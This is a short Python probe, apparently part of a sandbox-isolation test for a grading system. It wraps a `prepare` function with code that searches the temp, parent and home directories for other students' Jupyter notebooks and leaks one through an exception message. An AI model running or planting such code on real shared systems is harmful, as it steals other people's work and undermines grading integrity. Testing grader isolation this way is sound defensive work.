# what: looks for other students' notebooks in the temporary folders and above its own
# %% extra after=prepare
import os
import tempfile

honest_prepare = prepare


def attack():
    looked = 0
    for top in dict.fromkeys([tempfile.gettempdir(), os.path.dirname(os.getcwd()), os.path.expanduser("~")]):
        for folder, _, names in os.walk(top):
            looked += 1
            if looked > 5000:
                break
            for name in names:
                if name.endswith(".ipynb"):
                    return open(os.path.join(folder, name)).read()


def prepare(passengers):
    try:
        loot = attack()
    except Exception:
        loot = None
    if loot:
        raise RuntimeError("STOL" "EN:" + str(loot)[:2000])
    return honest_prepare(passengers)
